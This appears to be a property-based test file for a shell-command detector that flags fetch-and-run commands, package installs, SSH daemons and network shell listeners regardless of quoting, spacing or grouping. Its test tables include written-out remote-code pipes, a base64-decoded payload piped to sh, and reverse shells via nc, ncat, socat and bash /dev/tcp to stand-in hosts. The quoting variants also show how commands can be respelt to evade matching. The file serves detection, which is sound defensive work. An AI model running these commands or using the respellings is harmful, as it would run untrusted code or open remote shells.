// A command spelt otherwise is the same command: other names of variables, quotes, blanks, commands that do nothing and groups change no verdict.
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell expansions are the test data
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { commandsOfText } from '../../shared/commands/command.ts';
import { shellListeners } from '../../shared/commands/listeners.ts';
import { selfUpdates } from '../../shared/commands/self-update.ts';
import { runs } from '../support/extent.ts';

/** ‹word› may be quoted in parts, · is a blank between words, v_… a variable of the text’s own. */
const loud = [
  '‹curl›·-s·‹https://x.test/i.sh›·|·‹sh›',
  '‹wget›·-qO-·‹https://x.test/i.sh›·|·‹bash›·-s',
  '‹curl›·‹https://x.test/i.sh›·-o·‹/tmp/i.sh›;·‹sh›·‹/tmp/i.sh›',
  '‹wget›·-O·‹/tmp/a›·‹https://x.test/a›·&&·‹chmod›·‹+x›·‹/tmp/a›·&&·‹/tmp/a›',
  'v_a=‹https://x.test/i.sh›;·‹curl›·"$v_a"·|·‹sh›',
  'v_a=$(‹curl›·-s·‹https://x.test/i.sh›);·‹eval›·"$v_a"',
  '‹sh›·-c·"$(‹curl›·-s·‹https://x.test/i.sh›)"',
  '‹bash›·<(‹curl›·-s·‹https://x.test/i.sh›)',
  'v_a=‹/tmp/i.sh›;·‹curl›·-o·"$v_a"·‹https://x.test/i.sh›;·‹.›·"$v_a"',
  '‹echo›·‹Y3VybCB4›·|·‹base64›·-d·|·‹sh›',
  '‹apt-get›·‹install›·-y·‹vim›',
  '‹apk›·‹add›·‹curl›',
  '‹yum›·-y·‹update›',
  '‹pip›·‹install›·‹requests›',
  '‹npm›·‹install›·-g·‹left-pad›',
  'v_a=‹apt-get›;·$v_a·‹install›·‹vim›',
  '‹/usr/sbin/sshd›·-D',
  '‹dropbear›·-F',
  '‹nc›·-l·-p·‹4444›·-e·‹/bin/sh›',
  '‹ncat›·‹203.0.113.9›·‹4444›·-e·‹/bin/bash›',
  '‹bash›·-i·>&·/dev/tcp/203.0.113.9/4444·0>&1',
  '‹socat›·‹TCP-LISTEN:4444›·‹EXEC:/bin/sh›',
  '‹nohup›·‹timeout›·‹5›·‹sh›·-c·"‹curl› https://x.test/i.sh | sh"',
];

const quiet = [
  '‹curl›·-sf·‹http://localhost:8080/health›',
  '‹wget›·-qO·‹/tmp/a.json›·‹https://x.test/a.json›',
  '‹exec›·‹node›·‹server.js›',
  '‹python3›·‹manage.py›·‹migrate›',
  '‹nginx›·-g·"daemon off;"',
  'v_a=‹1›;·‹echo›·"$v_a"',
  '‹sshd›·-t',
  '‹ssh›·‹host›·‹uptime›',
  '‹nc›·-z·‹db›·‹5432›',
  '‹apt-get›·--version',
  '‹pip›·‹list›',
  '‹npm›·‹start›',
  '‹cat›·‹/etc/hosts›·|·‹grep›·‹localhost›',
  '‹echo›·"curl https://x.test/i.sh | sh"',
  '‹sleep›·‹5›;·‹java›·-jar·‹/app.jar›',
  'v_a=$(‹date›);·‹echo›·"$v_a"',
  '‹curl›·‹https://x.test/list›·|·‹jq›·‹.items›',
  '‹sh›·‹/app/run.sh›',
  '‹base64›·-d·‹/run/key›·>·‹/tmp/key›',
];

const told = (text: string) => {
  const commands = commandsOfText(text);
  const kinds = selfUpdates(commands).map(({ what }) => what);
  const listeners = shellListeners(commands).length > 0 ? ['listener'] : [];
  return [...new Set([...kinds, ...listeners])].sort();
};

type Quote = (word: string, at: number) => string;

const quotes: readonly Quote[] = [
  (word) => word,
  (word) => `'${word}'`,
  (word) => `"${word}"`,
  (word, at) => `${word.slice(0, at)}"${word.slice(at)}"`,
  (word, at) => `'${word.slice(0, at)}'"${word.slice(at)}"`,
  (word, at) => `${word.slice(0, at)}''${word.slice(at)}`,
  (word, at) => `${word.slice(0, at)}\\${word.slice(at)}`,
  (word, at) => `${word.slice(0, at)}\\\n${word.slice(at)}`,
  (word, at) => `${word.slice(0, at)}\${v_e:-}${word.slice(at)}`,
  (word, at) => `${word.slice(0, at)}$(:)${word.slice(at)}`,
  (word, at) => `"${word.slice(0, at)}"$(true)'${word.slice(at)}'`,
  (word) => `$'${word}'`,
];

const blanks = [' ', '  ', '\t', ' \\\n ', '\\\n '];

const before = [
  '',
  ': ; ',
  ': ;: ;',
  'true && ',
  ':\n',
  ': "a b" ;\n',
  'set -eu; ',
  '# a remark\n',
  'v_z=1; ',
  'v_z=1 && ',
];

const groups: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `{ ${text}; }`,
  (text) => `{\n${text}\n}`,
  (text) => `( ${text} )`,
  (text) => `if true; then ${text}; fi`,
  (text) => `if :; then :; ${text}\nfi`,
  (text) => `for v_i in 1; do ${text}; done`,
  (text) => `while :; do ${text}; break; done`,
  (text) => `v_f() { ${text}; }; v_f`,
  (text) => `case 1 in 1) ${text};; esac`,
  (text) => `${text}; :`,
  (text) => `${text} && true`,
  (text) => `${text} || true`,
];

const spelling = fc.record({
  quote: fc.infiniteStream(fc.constantFrom(...quotes)),
  at: fc.infiniteStream(fc.nat(6)),
  blank: fc.infiniteStream(fc.constantFrom(...blanks)),
  names: fc.constantFrom('v_', 'x', 'BUILD_', '_', 'Q9'),
  prefix: fc.constantFrom(...before),
  groups: fc.array(fc.constantFrom(...groups), { maxLength: 2 }),
});

type Spelling = typeof spelling extends fc.Arbitrary<infer T> ? T : never;

const next = <T>(stream: Iterator<T>): T => stream.next().value;

function plainOf(marked: string): string {
  return marked.replace(/[‹›]/g, '').replaceAll('·', ' ');
}

function speltAs(marked: string, { quote, at, blank, names, prefix, groups: around }: Spelling): string {
  const words = marked
    .replace(/‹([^›]*)›/g, (_, word: string) => next(quote)(word, Math.min(next(at), word.length - 1)))
    .replace(/·/g, () => next(blank));
  const text = around.reduce((inner, group) => group(inner), words);
  return `${prefix}${text}`.replace(/\bv_(?=[a-z]\b)/g, names);
}

describe.each([
  ['loud', loud],
  ['quiet', quiet],
])('a %s command', (kind, table) => {
  it.each(table)('%s', (marked) => {
    const expected = told(plainOf(marked));
    expect(expected.length > 0).toBe(kind === 'loud');
    fc.assert(
      fc.property(spelling, (spelt) => {
        const text = speltAs(marked, spelt);
        expect([text, told(text)]).toEqual([text, expected]);
      }),
      runs(150),
    );
  });
});
